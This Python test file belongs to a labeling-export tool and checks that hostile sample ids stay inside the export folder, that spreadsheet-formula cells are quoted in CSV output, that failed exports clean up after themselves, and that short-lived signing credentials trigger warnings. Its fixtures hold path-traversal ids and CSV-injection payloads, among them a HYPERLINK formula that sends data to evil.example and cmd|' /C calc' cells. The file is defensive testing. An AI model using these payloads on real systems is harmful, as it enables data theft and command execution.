"""Exports of ids from strangers: no id becomes a path outside --dest (local and moto S3), CSV cells a spreadsheet
would run are quoted and read back as the exact ids, a failed export removes only what it wrote, and URLs signed
with temporary credentials that die before --expires are warned about."""
from __future__ import annotations

import csv
import io
import json
import logging
import os
import urllib.request
from datetime import datetime, timedelta, timezone

import boto3
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from botocore.credentials import Credentials, RefreshableCredentials
from conftest import s3_uri
from PIL import Image

from vaal_dist.errors import InputError
from vaal_dist.labeling import export, formats
from vaal_dist.labeling.export import export_selection
from vaal_dist.labeling.import_labels import import_labels
from vaal_dist.labeling.labels import read_labels
from vaal_dist.pool.io import PoolMeta, write_pool
from vaal_dist.pool.manifests import write_manifest
from vaal_dist.pool.shards import write_parquet
from vaal_dist.pool.storage import exists, write_json

CLASSES = ["zero", "one", "two"]
BUCKET = "bucket-1"
# ids that, taken as paths, leave the folder or break the key; each tried on both backends
PATH_IDS = ["../../../outside/evil", "a//b", "/etc/passwd", "..", "%2e%2e%2foutside%2fx", "im/../../../x",
            "ctl\x01\x1b[31m\tid", "line\nbreak\r", "C:\\Windows\\x", "über/ü", "x" * 2000, "im/000"]
# cells a spreadsheet runs (OWASP's CSV injection), and ' which the quoting itself uses
FORMULA_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''", "'plain", "plain", "a=1"]


def hostile_round(tmp_path, ids: list[str]) -> tuple[str, np.ndarray]:
    """(round folder, pixels (n, 8, 8, 1)): a raw pool of ``ids``, every one selected, in reverse pool order."""
    pixels = np.random.default_rng(0).integers(0, 256, (len(ids), 8, 8, 1), dtype=np.uint8)
    write_pool(str(tmp_path / "pool"), [pa.table({"id": ids, "image": [p.tobytes() for p in pixels]})],
               PoolMeta("raw", (8, 8, 1)))
    write_manifest(str(tmp_path / "labeled.parquet"), [])
    out = tmp_path / "round"
    selected = ids[::-1]
    write_parquet(f"{out}/selection.parquet", pa.table({
        "id": pa.array(selected, pa.string()), "score": pa.array(np.linspace(1, 0, len(ids))),
        "rank": pa.array(np.arange(1, len(ids) + 1), pa.int64())}))
    write_json(f"{out}/run.json", {"config": {"pool": str(tmp_path / "pool"),
                                              "labeled": str(tmp_path / "labeled.parquet"), "strategy": "entropy"}})
    return str(out), pixels


def files_under(root) -> set[str]:
    return {os.path.relpath(os.path.join(d, f), root) for d, _, names in os.walk(root) for f in names}


def bucket_objects(s3) -> dict[str, int]:
    """Every key in the bucket and its size."""
    pages = s3.get_paginator("list_objects_v2").paginate(Bucket=BUCKET)
    return {o["Key"]: o["Size"] for page in pages for o in page.get("Contents", [])}


def ancestor_markers(prefix: str) -> set[str]:
    """The zero-byte folder markers pyarrow's create_dir writes for each folder above ``prefix`` (on every write)."""
    parts = prefix.split("/")
    return {"/".join(parts[:k]) + "/" for k in range(1, len(parts))}


@pytest.fixture
def s3(s3_endpoint):
    client = boto3.client("s3", endpoint_url=f"http://{s3_endpoint}")
    client.create_bucket(Bucket=BUCKET)
    yield client
    for key in bucket_objects(client):
        client.delete_object(Bucket=BUCKET, Key=key)
    client.delete_bucket(Bucket=BUCKET)


def pixels_of(data: bytes) -> np.ndarray:
    return np.asarray(Image.open(io.BytesIO(data)))


# --- 1. ids never become paths outside --dest ----------------------------------------------------------------

def test_hostile_ids_write_nothing_outside_a_bucket_dest_and_the_tasks_keep_them(tmp_path, s3, s3_endpoint):
    """Before, an image object was named by its %-quoted id, which pyarrow decodes: '../../../outside/evil' was
    uploaded to team-a/outside/, and 'a//b' raised ArrowInvalid (empty path component)."""
    out, pixels = hostile_round(tmp_path, PATH_IDS)
    s3.put_object(Bucket=BUCKET, Key="team-a/other/theirs.txt", Body=b"theirs")
    before = bucket_objects(s3)
    prefix = "team-a/exports/r1"
    files = export_selection(out, "label-studio", s3_uri(s3_endpoint, prefix), classes=CLASSES, expires_s=600)
    new = set(bucket_objects(s3)) - set(before)
    outside = {k for k in new if not k.startswith(prefix + "/")}
    assert outside <= ancestor_markers(prefix) and all(bucket_objects(s3)[k] == 0 for k in outside)
    assert len([k for k in new if k.startswith(f"{prefix}/images/") and not k.endswith("/")]) == len(PATH_IDS)
    tasks = json.loads(s3.get_object(Bucket=BUCKET, Key=f"{prefix}/tasks-00001.json")["Body"].read())
    assert len(files) == 2 and [t["data"]["id"] for t in tasks] == PATH_IDS[::-1]
    for t in tasks:                                  # each id's own image, by the URL its task carries
        with urllib.request.urlopen(t["data"]["image"]) as response:
            assert np.array_equal(pixels_of(response.read()), pixels[PATH_IDS.index(t["data"]["id"]), :, :, 0])


@pytest.mark.parametrize("to", ["label-studio", "coco", "csv"])
def test_hostile_ids_write_nothing_outside_a_local_dest_and_the_tasks_keep_them(tmp_path, to):
    out, _ = hostile_round(tmp_path, PATH_IDS)
    before = files_under(tmp_path)
    files = export_selection(out, to, str(tmp_path / "exports" / "r1"), classes=CLASSES)
    new = files_under(tmp_path) - before
    assert all(f.startswith("exports/r1/") for f in new) and len(new) == len(files)
    text = open(files[0], newline="").read()
    if to == "label-studio":
        ids = [t["data"]["id"] for t in json.loads(text)]
    elif to == "coco":
        ids = [i["file_name"] for i in json.loads(text)["images"]]
    else:
        ids = [formats.from_spreadsheet_text(row["id"]) for row in csv.DictReader(io.StringIO(text))]
    assert ids == PATH_IDS[::-1]


def test_the_cli_exports_hostile_ids_to_a_bucket_without_an_error(tmp_path, s3, s3_endpoint, capsys):
    from vaal_dist.cli import main

    out, _ = hostile_round(tmp_path, PATH_IDS)
    assert main(["export", out, "--to", "csv", "--dest", s3_uri(s3_endpoint, "team-a/exports/r1"),
                 "--classes", *CLASSES, "--expires", "600"]) == 0
    assert capsys.readouterr().err == ""


# --- 2. CSV cells a spreadsheet would run --------------------------------------------------------------------

def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_import_back_to_the_exact_ids(tmp_path):
    out, _ = hostile_round(tmp_path, FORMULA_IDS)
    exported = export_selection(out, "csv", str(tmp_path / "csv"), classes=CLASSES)[0]
    rows = list(csv.DictReader(open(exported, newline="")))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    cells = [row["id"] for row in rows]
    quoted = [i for i in FORMULA_IDS[::-1] if i[0] in "=+-@\t\r'"]
    assert [c for c in cells if c.startswith("'")] == ["'" + i for i in quoted]
    assert [c for c in cells if not c.startswith("'")] == [i for i in FORMULA_IDS[::-1] if i not in quoted]
    # a labeler fills in the label column and exports id,label
    answers = tmp_path / "answers.csv"
    with open(answers, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "label"])
        writer.writerows([cell, CLASSES[k % 3]] for k, cell in enumerate(cells))
    import_labels(str(answers), out, classes=CLASSES)
    labels = read_labels(f"{out}/labels.parquet")[0]
    assert dict(zip(labels.column("id").to_pylist(), labels.column("label").to_pylist())) == {
        i: k % 3 for k, i in enumerate(FORMULA_IDS[::-1])}


def test_the_spreadsheet_quote_is_undone_only_where_export_put_it():
    for cell in FORMULA_IDS + ["", "'", "-", "'-", "plain'"]:
        assert formats.from_spreadsheet_text(formats.spreadsheet_text(cell)) == cell
    # a hand-written cell starting with ' before ordinary text keeps it: export never writes one
    assert formats.from_spreadsheet_text("'plain") == "'plain"


# --- 3. a failed export removes only what it wrote ---------------------------------------------------------------

def round_with_a_bad_image(tmp_path, monkeypatch) -> tuple[str, str]:
    """(round folder, the bad id): 5 selected images read 2 at a time, 2 tasks a file; the 5th, a raw image one
    byte short, fails the third file after two were written."""
    ids = [f"im/{k}" for k in range(5)]
    out, _ = hostile_round(tmp_path, ids)
    shard = tmp_path / "pool" / "part-00000.parquet"
    table = pq.read_table(shard)
    images = table.column("image").to_pylist()
    images[0] = images[0][:-1]
    write_parquet(str(shard), table.set_column(1, "image", pa.array(images, pa.binary())))
    monkeypatch.setattr(export, "READ_ROWS", 2)
    return out, ids[0]


def someone_writes_during_the_export(monkeypatch, foreign: str) -> None:
    """Another writer puts ``foreign`` into the export's folder as the export writes its first file."""
    real = export.write_atomic

    def and_theirs(uri: str, data: bytes) -> None:
        if not exists(foreign):
            real(foreign, b"theirs")
        real(uri, data)
    monkeypatch.setattr(export, "write_atomic", and_theirs)


def test_a_failed_local_export_removes_its_files_and_folders_but_not_a_file_written_meanwhile(tmp_path, monkeypatch):
    out, bad = round_with_a_bad_image(tmp_path, monkeypatch)
    dest = tmp_path / "exports" / "r1"
    someone_writes_during_the_export(monkeypatch, str(dest / "notes.txt"))
    with pytest.raises(InputError, match=f"image '{bad}': 63 bytes"):
        export_selection(out, "label-studio", str(dest), classes=CLASSES, max_tasks=2)
    assert files_under(tmp_path / "exports") == {"r1/notes.txt"}
    monkeypatch.undo()
    round_with_a_bad_image(tmp_path, monkeypatch)
    with pytest.raises(InputError, match=f"image '{bad}'"):
        export_selection(out, "csv", str(tmp_path / "new" / "deeper"), classes=CLASSES, max_tasks=2)
    assert not (tmp_path / "new").exists()                # the folders it made, gone


def test_a_failed_bucket_export_removes_its_objects_but_not_one_written_meanwhile(tmp_path, monkeypatch, s3,
                                                                                 s3_endpoint):
    out, bad = round_with_a_bad_image(tmp_path, monkeypatch)
    s3.put_object(Bucket=BUCKET, Key="team-a/other/theirs.txt", Body=b"theirs")
    before = bucket_objects(s3)
    prefix = "team-a/exports/r1"
    someone_writes_during_the_export(monkeypatch, s3_uri(s3_endpoint, f"{prefix}/notes.txt"))
    with pytest.raises(InputError, match=f"image '{bad}'"):
        export_selection(out, "label-studio", s3_uri(s3_endpoint, prefix), classes=CLASSES, max_tasks=2)
    left = {k: size for k, size in bucket_objects(s3).items() if k not in before}
    # what is left of the export: zero-byte folder markers pyarrow writes and keeps above a file (none below dest)
    assert {k for k, size in left.items() if size} == {f"{prefix}/notes.txt"}
    assert set(left) - {f"{prefix}/notes.txt"} <= ancestor_markers(f"{prefix}/notes.txt")
    monkeypatch.undo()
    round_with_a_bad_image(tmp_path, monkeypatch)
    for key in bucket_objects(s3):                       # a bucket as it was before the first export
        if key not in before:
            s3.delete_object(Bucket=BUCKET, Key=key)
    with pytest.raises(InputError, match=f"image '{bad}'"):
        export_selection(out, "label-studio", s3_uri(s3_endpoint, prefix), classes=CLASSES, max_tasks=2)
    assert not [k for k in bucket_objects(s3) if k.startswith(prefix)]      # its folders' markers too


# --- 4. signed URLs that die with their credentials ----------------------------------------------------------

NOW = datetime(2026, 12, 7, 6, 0, tzinfo=timezone.utc)
WEEK = 7 * 24 * 3600


def refreshable(expiry: datetime) -> RefreshableCredentials:
    """Credentials as an instance role gives them: they say when they expire."""
    metadata = {"access_key": "AKIDROLE", "secret_key": "ROLESECRET", "token": "ROLETOKEN",
                "expiry_time": expiry.isoformat()}
    return RefreshableCredentials.create_from_metadata(metadata, refresh_using=lambda: metadata, method="test")


def test_credentials_expiring_before_the_urls_are_named_with_their_expiry_and_no_secret():
    expiry = datetime.now(timezone.utc) + timedelta(hours=6)       # the role's refreshed credentials, 6 h left
    warning = export.expiry_warning(refreshable(expiry), WEEK, datetime.now(timezone.utc))
    assert f"expire at {expiry:%Y-%m-%d %H:%M} UTC" in warning and "--expires (604800 s)" in warning
    assert not any(secret in warning for secret in ("AKIDROLE", "ROLESECRET", "ROLETOKEN"))
    assert export.expiry_warning(refreshable(expiry), 5 * 3600, datetime.now(timezone.utc)) is None


def test_a_session_token_of_unknown_expiry_is_warned_about_and_long_term_keys_are_not():
    warning = export.expiry_warning(Credentials("AKID", "SECRET", "SESSIONTOKEN"), WEEK, NOW)
    assert "temporary credentials (a session token)" in warning and "SESSIONTOKEN" not in warning
    assert export.expiry_warning(Credentials("AKID", "SECRET"), WEEK, NOW) is None


def test_an_s3_export_signed_with_a_session_token_warns_once_and_still_exports(tmp_path, s3, s3_endpoint, caplog,
                                                                               monkeypatch):
    """The token comes from the environment (pyarrow takes no session_token in a URI), the keys from the URI."""
    out, _ = hostile_round(tmp_path, ["a", "b"])
    dest = s3_uri(s3_endpoint, "exports/r1").replace("testing:testing@", "")
    monkeypatch.setenv("AWS_SESSION_TOKEN", "THESESSIONTOKEN")
    with caplog.at_level(logging.WARNING, logger="vaal_dist"):
        files = export_selection(out, "csv", dest, classes=CLASSES, expires_s=WEEK)
    warnings = signing_warnings(caplog)
    assert len(warnings) == 1 and "a session token" in warnings[0] and "THESESSIONTOKEN" not in warnings[0]
    assert len(files) == 1 and "X-Amz-Security-Token=THESESSIONTOKEN" in s3.get_object(
        Bucket=BUCKET, Key="exports/r1/tasks-00001.csv")["Body"].read().decode()
    caplog.clear()
    monkeypatch.delenv("AWS_SESSION_TOKEN")
    export_selection(out, "csv", s3_uri(s3_endpoint, "exports/r2"), classes=CLASSES, expires_s=WEEK)
    assert not signing_warnings(caplog)


def signing_warnings(caplog) -> list[str]:
    """The warnings about signed URLs (the pool, written by hand, is also said to record no source files)."""
    return [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING and "credentials" in r.getMessage()]


def test_an_s3_export_with_no_credentials_to_sign_is_refused_before_writing(tmp_path, s3, s3_endpoint, monkeypatch,
                                                                            capsys):
    """Before, botocore's NoCredentialsError reached the user as a traceback."""
    from vaal_dist.cli import main

    out, _ = hostile_round(tmp_path, ["a"])
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.delenv(name)
    dest = s3_uri(s3_endpoint, "exports/r1").replace("testing:testing@", "")
    assert main(["export", out, "--to", "csv", "--dest", dest, "--classes", *CLASSES]) == 2
    assert capsys.readouterr().err.startswith("vaal-dist: error: presigned s3:// URLs need AWS credentials")
    assert bucket_objects(s3) == {}


def test_a_bucket_dest_the_storage_refuses_is_one_line_naming_it_and_no_secret(tmp_path, s3, s3_endpoint, capsys):
    from vaal_dist.cli import main
    out, _ = hostile_round(tmp_path, ["a", "b"])
    dest = s3_uri(s3_endpoint, "exports/r1").replace(BUCKET, "no-such-bucket")
    assert main(["export", out, "--to", "csv", "--dest", dest, "--classes", *CLASSES]) == 2
    err = capsys.readouterr().err
    assert err.startswith("vaal-dist: error: ") and err.count("\n") == 1, err
    assert "no-such-bucket" in err and "testing:testing" not in err
